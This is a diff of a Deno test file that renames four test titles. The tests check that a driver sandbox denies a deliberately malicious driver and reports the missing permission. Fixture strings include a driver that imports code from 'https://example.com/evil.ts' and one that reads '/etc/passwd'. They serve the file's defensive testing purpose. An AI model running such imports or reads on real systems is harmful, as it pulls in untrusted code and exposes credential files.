@@ -19,7 +19,7 @@ async function call(bench: ServedBench, id: string, method: string, args: unknow
 /** What the bench file says, on one line, when something was denied. */
 const ADVICE = "If it should have it, add to the device in the bench file: ";
 
-Deno.test("whatever a malicious driver tries is denied, and told as what it is", async (test) => {
+Deno.test("a malicious driver is denied everything it tries, and the error names the permission", async (test) => {
   await using bench = await serveBench("devices: [{ id: evil1, driver: Nosy }]", { drivers: ["nosy.ts"] });
   const { folder, port, pid } = bench;
   const cases: [what: string, method: string, args: unknown[], wanted: string, grant: string][] = [
@@ -83,7 +83,7 @@ Deno.test("whatever a malicious driver tries is denied, and told as what it is",
   equal([...Deno.readDirSync(`${folder}/drivers`)].map(({ name }) => name), ["nosy.ts"]);
 });
 
-Deno.test("a driver file that wants something while it is imported is listed with what it wanted", async () => {
+Deno.test("a driver file that needs a permission while it is imported is listed with that permission", async () => {
   const drivers = [{
     "fetching.ts": 'import "https://example.com/evil.ts";',
     "reading.ts": 'Deno.readTextFileSync("/etc/passwd");',
@@ -106,7 +106,7 @@ Deno.test("a driver file that wants something while it is imported is listed wit
   ]);
 });
 
-Deno.test("the line that the error names is the one to add: with it the driver may", async (test) => {
+Deno.test("the permission line that an error names is sufficient", async (test) => {
   const file = await Deno.makeTempFile();
   using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
   const accepted = listener.accept();
@@ -137,7 +137,7 @@ Deno.test("the line that the error names is the one to add: with it the driver m
   await Deno.remove(file);
 });
 
-Deno.test("the bench file narrows what a driver asks for, and adds to it", async () => {
+Deno.test("the bench file narrows and extends a driver's permissions", async () => {
   const folder = await Deno.makeTempDir();
   const [a, b, c] = ["a", "b", "c"].map((name) => `${folder}/${name}.txt`);
   for (const path of [a, b, c]) await Deno.writeTextFile(path, "four");
